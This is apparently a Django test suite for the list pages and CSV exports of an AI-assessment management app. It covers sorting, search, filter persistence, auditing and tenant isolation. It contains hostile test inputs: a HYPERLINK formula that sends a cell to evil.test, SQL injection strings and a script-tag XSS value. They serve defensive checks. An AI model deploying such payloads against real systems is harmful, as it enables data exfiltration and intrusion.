"""Every list page: sortable columns, search, filters kept in every link, and its CSV export.

Each list is read as its user reads it: the order of the rows is the order of their references
(or titles) in the page, and the CSV is parsed as a spreadsheet program would.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import date, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from django.urls import reverse
from django.utils import timezone

from agreements import selectors as agreement_selectors
from agreements.models import Agreement, AgreementStatus
from agreements.tests.factories import AgreementFactory
from assessments import selectors as case_selectors
from assessments.models import AccessTicket, Assessment, AssessmentStatus, ModelSubmission, TicketStatus
from assessments.tests.factories import AccessTicketFactory, AssessmentFactory, ModelSubmissionFactory
from audit.models import AuditEvent
from core.choices import AccessKind
from core.lists import FORMULA_PREFIXES, csv_cell
from findings import selectors as finding_selectors
from findings.models import Finding, FindingStatus, Severity
from findings.tests.factories import FindingFactory, released_finding
from reminders import selectors as reminder_selectors
from reminders.models import Deadline, DeadlineKind, Notification
from reminders.tests.factories import make_deadline

pytestmark = pytest.mark.django_db


@dataclass(frozen=True)
class ListUnderTest:
    page: str  # URL name of the page
    export: str  # URL name of its CSV
    model: type
    sorts: object  # core.lists.Sorts
    shown: str  # regex of what identifies a row on the page (a reference, or a title)
    field: str = "reference"  # the model field that holds it


LISTS = {
    "agreements": ListUnderTest(
        "agreements:list", "agreements:export", Agreement, agreement_selectors.LIST_SORTS, r"AGR-\d{4}-\d{4,}"
    ),
    "submissions": ListUnderTest(
        "assessments:submission_list",
        "assessments:submission_export",
        ModelSubmission,
        case_selectors.SUBMISSION_SORTS,
        r"SUB-\d{4}-\d{4,}",
    ),
    "assessments": ListUnderTest(
        "assessments:list", "assessments:export", Assessment, case_selectors.ASSESSMENT_SORTS, r"ASM-\d{4}-\d{4,}"
    ),
    "tickets": ListUnderTest(
        "assessments:ticket_list",
        "assessments:ticket_export",
        AccessTicket,
        case_selectors.TICKET_SORTS,
        r"TKT-\d{4}-\d{4,}",
    ),
    "findings": ListUnderTest(
        "findings:list", "findings:export", Finding, finding_selectors.SORTS, r"FND-\d{4}-\d{4,}"
    ),
    "deadlines": ListUnderTest(
        "reminders:my_deadlines",
        "reminders:my_deadlines_export",
        Deadline,
        reminder_selectors.DEADLINE_SORTS,
        r"Deadline [a-z]+",
        field="title",
    ),
    "notifications": ListUnderTest(
        "reminders:notifications",
        "reminders:notifications_export",
        Notification,
        reminder_selectors.NOTIFICATION_SORTS,
        r"Notice [a-z]+",
        field="title",
    ),
}


def _shown(response, pattern: str) -> list[str]:
    """The row identifiers in the order the page shows them (each once)."""
    assert response.status_code == 200, response.status_code
    body = response.content.decode()
    bar = body.index('aria-label="Filter ')
    body = body[body.index("</form>", bar) :]  # after the filter bar, whose values may repeat them
    seen: list[str] = []
    for match in re.findall(pattern, body):
        if match not in seen:
            seen.append(match)
    return seen


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    text = b"".join(response.streaming_content).decode()
    table = list(csv.reader(io.StringIO(text)))
    if response.get("X-Handling-Marking"):
        # A marked export opens and closes with its banner; the table lies between.
        assert table[0] == table[-1] and table[0][0].startswith("["), table[:1]
        table = table[1:-1]
    return table


# --- A world with rows that differ in every sortable column ------------------------------------


def _days(n: int) -> date:
    return timezone.localdate() + timedelta(days=n)


@pytest.fixture
def rows(admin_user, lead, evaluator, liaison_a, company_a, company_b, agreement_a, agreement_b, case, case_b):
    """Four or more rows of each list, all visible to the programme admin."""
    # Agreements: a title, status, window and effective date each (and no effective date at all).
    AgreementFactory(
        organisation=company_a,
        title="delta terms",
        status=AgreementStatus.DRAFT,
        max_window_days=7,
        effective_date=None,
        expiry_date=None,
    )
    AgreementFactory(
        organisation=company_b,
        title="alpha terms",
        status=AgreementStatus.EXPIRED,
        max_window_days=21,
        effective_date=_days(-400),
        expiry_date=_days(-10),
    )
    Agreement.objects.filter(pk=agreement_a.pk).update(title="charlie terms", max_window_days=14)
    Agreement.objects.filter(pk=agreement_b.pk).update(
        title="bravo terms", status=AgreementStatus.TERMINATED, max_window_days=28, effective_date=_days(-90)
    )

    # Submissions and cases: names, release dates, windows and statuses that differ.
    for name, release, start, status in [
        ("gamma-model", _days(200), -20, AssessmentStatus.REPORTING),
        ("epsilon-model", None, 3, AssessmentStatus.SCHEDULED),
    ]:
        submission = ModelSubmissionFactory(agreement=agreement_a, model_name=name, intended_release_date=release)
        AssessmentFactory(
            submission=submission,
            lead=lead,
            team=[evaluator],
            status=status,
            window_start=timezone.now() + timedelta(days=start),
            window_end=timezone.now() + timedelta(days=start + 10),
        )

    # Tickets: kinds, request times and statuses that differ.
    for number, (kind, status, hours_ago) in enumerate(
        [
            (AccessKind.WEIGHTS_DOWNLOAD, TicketStatus.REQUESTED, 5),
            (AccessKind.DOCUMENTATION, TicketStatus.REJECTED, 1),
            (AccessKind.HOSTED_API, TicketStatus.REQUESTED, 9),
            (AccessKind.FINE_TUNING, TicketStatus.REJECTED, 3),
        ]
    ):
        ticket = AccessTicketFactory(assessment=case if number % 2 else case_b)
        AccessTicket.objects.filter(pk=ticket.pk).update(
            kind=kind,
            status=status,
            requested_at=timezone.now() - timedelta(hours=hours_ago),
            ended_at=timezone.now() if status == TicketStatus.REJECTED else None,
        )

    # Findings: severity, domain, status and response due differ; two cases.
    FindingFactory(
        assessment=case, author=evaluator, title="Jailbreak via translation", severity=Severity.LOW, risk_domain="cyber"
    )
    FindingFactory(
        assessment=case_b, author=lead, severity=Severity.CRITICAL, risk_domain="autonomy", status="in_review"
    )
    released_finding(
        assessment=case,
        author=evaluator,
        released_by=lead,
        severity=Severity.MEDIUM,
        risk_domain="biological",
        response_due_at=timezone.now() + timedelta(days=3),
    )
    released_finding(
        assessment=case_b,
        author=evaluator,
        released_by=lead,
        severity=Severity.INFORMATIONAL,
        risk_domain="chemical",
        status=FindingStatus.RESOLVED,
        response_due_at=timezone.now() + timedelta(days=9),
    )

    # The admin's deadlines (escalated to them) and notifications.
    for name, kind, days in [
        ("Deadline kilo", DeadlineKind.WINDOW_END, 4),
        ("Deadline alfa", DeadlineKind.TICKET_EXPIRY, 9),
        ("Deadline juliett", DeadlineKind.SIGNATURE_DUE, -2),
        ("Deadline hotel", DeadlineKind.OPEN_POINT_DUE, 1),
    ]:
        make_deadline(
            due_at=timezone.now() + timedelta(days=days),
            recipients=[lead],
            escalate_to=[admin_user],
            kind=kind,
            title=name,
            organisation=company_a,
        )
    for hours, name in [(3, "Notice papa"), (1, "Notice bravo"), (7, "Notice zulu")]:
        notification = Notification.objects.create(recipient=admin_user, title=name, url="/deadlines/")
        Notification.objects.filter(pk=notification.pk).update(created_at=timezone.now() - timedelta(hours=hours))
    Notification.objects.create(recipient=lead, title="Notice for someone else", url="/deadlines/")


# --- Sorting ------------------------------------------------------------------------------------


def _value(obj, path: str):
    for part in path.split("__"):
        obj = getattr(obj, part) if obj is not None else None
    return obj


def _expected(objects: list, terms: tuple[str, ...], *, reverse: bool) -> list:
    """``objects`` in the order of ``terms`` (Django's "-field" for descending), NULLs last going up
    and first going down, computed in Python from the objects' own values."""
    ordered = list(objects)
    for term in reversed(terms):
        descending = term.startswith("-") != reverse
        path = term.lstrip("-")
        ordered.sort(
            key=lambda o, p=path: (_value(o, p) is None, _value(o, p) if _value(o, p) is not None else 0),
            reverse=descending,
        )
    return ordered


SORT_CASES = [
    (name, column.name, direction)
    for name, spec in LISTS.items()
    for column in spec.sorts.columns
    if column.sortable
    for direction in ("", "-")
] + [(name, key, "") for name, spec in LISTS.items() for key in spec.sorts.choices if key.isalpha()]


@pytest.mark.parametrize(("name", "key", "direction"), SORT_CASES, ids=[f"{n}-{d}{k}" for n, k, d in SORT_CASES])
def test_each_list_sorts_by_each_column_both_ways(name, key, direction, rows, admin_user, client_for):
    spec = LISTS[name]
    page = reverse(spec.page)
    listed = _shown(client_for(admin_user).get(f"{page}?sort={direction}{key}"), spec.shown)

    column = next((c for c in spec.sorts.columns if c.name == key), None)
    if column is not None:
        terms, backwards = column.order, direction == "-"
    else:  # a named sort (newest, oldest, severity...)
        terms = tuple(("-" if o.descending else "") + o.expression.name for o in spec.sorts.choices[key][1])
        backwards = False
    visible = [o for o in spec.model.objects.all() if getattr(o, spec.field) in listed]
    expected = [getattr(o, spec.field) for o in _expected(visible, terms, reverse=backwards)]
    assert len(listed) >= 3
    assert listed == expected


def test_severity_reads_most_severe_first_and_back(rows, admin_user, client_for):
    client = client_for(admin_user)
    severities = [f.severity for f in client.get("/findings/?sort=severity").context["findings"]]
    assert severities == ["critical", "medium", "low", "informational"]
    severities = [f.severity for f in client.get("/findings/?sort=-severity").context["findings"]]
    assert severities == ["informational", "low", "medium", "critical"]


def test_response_due_soonest_first_keeps_findings_without_a_date_last(rows, admin_user, client_for):
    findings = client_for(admin_user).get("/findings/?sort=due").context["findings"]
    dues = [f.response_due_at for f in findings]
    assert dues[0] < dues[1] and dues[2:] == [None, None]
    findings = client_for(admin_user).get("/findings/?sort=-due").context["findings"]
    dues = [f.response_due_at for f in findings]
    assert dues[:2] == [None, None] and dues[2] > dues[3]


def test_the_sorted_header_says_so_and_links_to_the_other_direction(rows, admin_user, client_for):
    body = client_for(admin_user).get("/access/?sort=kind&status=requested").content.decode()
    header = re.search(r'<th scope="col" aria-sort="ascending"><a class="[^"]*" href="([^"]+)">Kind', body)
    assert header, "the Kind header is marked as the ascending sort"
    assert parse_qs(urlsplit(header.group(1).replace("&amp;", "&")).query) == {
        "sort": ["-kind"],
        "status": ["requested"],
    }
    assert body.count("aria-sort=") == 1


# --- Search -------------------------------------------------------------------------------------

SEARCHES = {
    "agreements": ("bravo", 1),
    "submissions": ("gamma", 1),
    "assessments": ("epsilon", 1),
    "tickets": ("Beta-Frontier", 2),  # the model of case_b: its two tickets
    "findings": ("jailbreak", 1),
    "deadlines": ("juliett", 1),
    "notifications": ("zulu", 1),
}


@pytest.mark.parametrize("name", list(SEARCHES))
def test_search_narrows_every_list(name, rows, admin_user, client_for):
    spec = LISTS[name]
    client = client_for(admin_user)
    everything = _shown(client.get(reverse(spec.page)), spec.shown)
    words, count = SEARCHES[name]
    found = _shown(client.get(reverse(spec.page), {"q": words}), spec.shown)
    assert len(found) == count < len(everything)
    assert set(found) <= set(everything)
    assert _shown(client.get(reverse(spec.page), {"q": "nothing-is-called-this"}), spec.shown) == []


def test_a_ticket_is_found_by_its_reference_and_its_case(rows, admin_user, case, client_for):
    client = client_for(admin_user)
    ticket = AccessTicket.objects.filter(assessment=case).first()
    assert _shown(client.get("/access/", {"q": ticket.reference.lower()}), LISTS["tickets"].shown) == [ticket.reference]
    of_case = sorted(t.reference for t in AccessTicket.objects.filter(assessment=case))
    assert sorted(_shown(client.get("/access/", {"q": case.reference}), LISTS["tickets"].shown)) == of_case


# --- Links keep the filters, the search and the sort ---------------------------------------------


def _query(url: str) -> dict[str, list[str]]:
    return parse_qs(urlsplit(url.replace("&amp;", "&")).query)


def test_filters_search_and_sort_survive_paging_sorting_and_the_csv_link(case, evaluator, lead, client_for):
    for number in range(30):
        FindingFactory(assessment=case, author=evaluator, title=f"Safeguard bypass {number}", severity=Severity.HIGH)
    FindingFactory(assessment=case, author=evaluator, title="Unrelated", severity=Severity.LOW)
    client = client_for(lead)
    response = client.get("/findings/", {"q": "bypass", "severity": "high", "sort": "-due"})
    body = response.content.decode()
    wanted = {"q": ["bypass"], "severity": ["high"], "sort": ["-due"]}

    next_page = re.search(r'href="(\?[^"]*page=2)"', body).group(1)
    assert _query(next_page) == {**wanted, "page": ["2"]}
    export = re.search(r'href="(/findings/export\.csv[^"]*)"', body).group(1)
    assert _query(export) == wanted
    severity_header = re.search(r'href="(\?[^"]*)">Severity', body).group(1)
    assert _query(severity_header) == {**wanted, "sort": ["severity"]}

    second = client.get("/findings/" + next_page.replace("&amp;", "&"))
    assert len(second.context["findings"]) == 5  # 30 match; 25 on the first page
    assert 'value="bypass"' in second.content.decode()


@pytest.mark.parametrize("name", [n for n in LISTS if n != "findings"])
def test_every_list_keeps_its_search_and_sort_in_the_csv_link(name, rows, admin_user, client_for):
    spec = LISTS[name]
    body = client_for(admin_user).get(reverse(spec.page), {"q": "a", "sort": spec.sorts.default}).content.decode()
    export = re.search(rf'href="({re.escape(reverse(spec.export))}[^"]*)"', body)
    if export:  # no link when nothing matches
        assert _query(export.group(1)) == {"q": ["a"], "sort": [spec.sorts.default]}


# --- The CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(LISTS))
def test_csv_holds_exactly_the_rows_the_filters_show_in_their_order(name, rows, admin_user, client_for):
    spec = LISTS[name]
    client = client_for(admin_user)
    sort = next(key for key in spec.sorts.choices if key != spec.sorts.default)
    query = {"q": SEARCHES[name][0][:3].lower(), "sort": sort}
    shown = _shown(client.get(reverse(spec.page), query), spec.shown)
    assert shown
    table = _csv(client.get(reverse(spec.export), query))
    header, lines = table[0], table[1:]
    column = 0 if spec.field == "reference" else header.index("What" if name == "deadlines" else "Title")
    assert [line[column] for line in lines] == shown
    assert len({len(line) for line in table}) == 1  # every line has the header's columns


def test_csv_of_findings_has_the_list_columns_and_no_long_texts(rows, admin_user, client_for):
    table = _csv(client_for(admin_user).get("/findings/export.csv", {"severity": "critical"}))
    assert table[0] == [
        "Reference",
        "Title",
        "Assessment",
        "Company",
        "Model",
        "Severity",
        "Risk domain",
        "Status",
        "Company disposition",
        "Response due",
        "Response overdue",
        "Recorded",
        "Handling marking",
    ]
    assert len(table) == 2 and table[1][5] == "Critical"
    assert not any("role-play framing" in cell for cell in table[1])  # the summary stays out


def test_csv_of_tickets_never_holds_a_credential(case, evaluator, lead, liaison_a, admin_user, client_for):
    from assessments import services

    ticket = services.ticket_request(
        actor=evaluator,
        assessment=case,
        kind=AccessKind.HOSTED_API,
        justification="Probe cyber uplift.",
        wanted_from=case.window_start,
        wanted_to=case.window_end,
    )
    services.ticket_approve(actor=lead, ticket=ticket)
    services.ticket_provision(
        actor=liaison_a, ticket=ticket, endpoint="https://api.a.test/v1", credential="sk-live-SECRET", instructions="x"
    )
    text = "\n".join(",".join(line) for line in _csv(client_for(admin_user).get("/access/export.csv")))
    assert ticket.reference in text
    assert "sk-live-SECRET" not in text and "api.a.test" not in text


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(prefix):
    assert csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert csv_cell(f"x{prefix}1") == f"x{prefix}1"


def test_numbers_stay_numbers_and_empty_stays_empty():
    assert csv_cell(-3) == -3
    assert csv_cell(None) == ""
    assert csv_cell(True) == "yes"


def test_a_hyperlink_formula_in_a_title_is_exported_as_text(case, evaluator, lead, client_for):
    formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
    FindingFactory(assessment=case, author=evaluator, title=formula)
    FindingFactory(assessment=case, author=evaluator, title="@SUM(1+1)")
    table = _csv(client_for(lead).get("/findings/export.csv", {"sort": "newest"}))
    titles = [line[1] for line in table[1:]]
    assert titles == ["'@SUM(1+1)", "'" + formula]


def test_an_export_is_audited_with_its_count_and_filters(rows, admin_user, client_for):
    response = client_for(admin_user).get("/findings/export.csv", {"severity": "critical", "sort": "-due"})
    _csv(response)
    event = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).latest("occurred_at")
    assert event.actor == admin_user
    assert event.object_repr == "the findings list"
    assert event.summary == "Exported 1 row of the findings list as CSV (severity=critical; sort=-due), marked CBI"


@pytest.mark.parametrize("name", list(LISTS))
def test_every_export_is_audited(name, rows, admin_user, client_for):
    before = AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, actor=admin_user).count()
    _csv(client_for(admin_user).get(reverse(LISTS[name].export)))
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT, actor=admin_user).count() == before + 1


# --- Another company's rows never leave ---------------------------------------------------------


def test_another_companys_liaison_exports_none_of_company_a(rows, case, evaluator, lead, liaison_b, client_for):
    from assessments import services

    ticket = services.ticket_request(
        actor=evaluator,
        assessment=case,
        kind=AccessKind.HOSTED_API,
        justification="Probe.",
        wanted_from=case.window_start,
        wanted_to=case.window_end,
    )
    services.ticket_approve(actor=lead, ticket=ticket)  # company A sees it now; company B never
    released_finding(assessment=case, author=evaluator, released_by=lead, title="Released to A only")
    client = client_for(liaison_b)
    theirs = {
        *Agreement.objects.filter(organisation__name="Company A").values_list("reference", flat=True),
        *ModelSubmission.objects.filter(organisation__name="Company A").values_list("reference", flat=True),
        *Assessment.objects.filter(submission__organisation__name="Company A").values_list("reference", flat=True),
        *AccessTicket.objects.filter(assessment__submission__organisation__name="Company A").values_list(
            "reference", flat=True
        ),
        *Finding.objects.filter(assessment__submission__organisation__name="Company A").values_list(
            "reference", flat=True
        ),
        "Company A",
        "Released to A only",
    }
    for name in ("agreements", "submissions", "assessments", "tickets", "findings", "deadlines", "notifications"):
        text = "\n".join(",".join(line) for line in _csv(client.get(reverse(LISTS[name].export))))
        leaked = sorted(value for value in theirs if value in text)
        assert not leaked, f"{name}: {leaked}"
    # And what is company B's is there.
    agreements = _csv(client.get("/agreements/export.csv"))
    assert {line[2] for line in agreements[1:]} == {"Company B"}


# --- Hostile values -----------------------------------------------------------------------------

HOSTILE = [
    {"sort": "'; DROP TABLE findings_finding; --"},
    {"sort": "__class__"},
    {"sort": "-"},
    {"sort": "password"},
    {"sort": "x" * 1000},
    {"status": "<script>alert(1)</script>", "severity": "bogus", "kind": "nope", "show": "everything"},
    {"organisation": "not-a-uuid", "overdue": "maybe", "unread": "perhaps"},
    {"q": "x" * 5000},
    {"q": "%_\\"},
    {"page": "-1"},
    {"page": "99999999999999999999"},
    {"assessment": "ASM-' OR 1=1"},
]


@pytest.mark.parametrize("name", list(LISTS))
def test_hostile_sort_and_filter_values_are_ignored_or_refused_never_an_error(name, rows, admin_user, client):
    spec = LISTS[name]
    client.force_login(admin_user)
    client.raise_request_exception = False
    for params in HOSTILE:
        for url in (reverse(spec.page), reverse(spec.export)):
            response = client.get(url, params)
            assert response.status_code in (200, 400), f"{url} {params}: {response.status_code}"
            if response.status_code == 200 and response.streaming:
                b"".join(response.streaming_content)
            elif "sort" in params and response.status_code == 200:
                assert "DROP TABLE" not in response.content.decode()
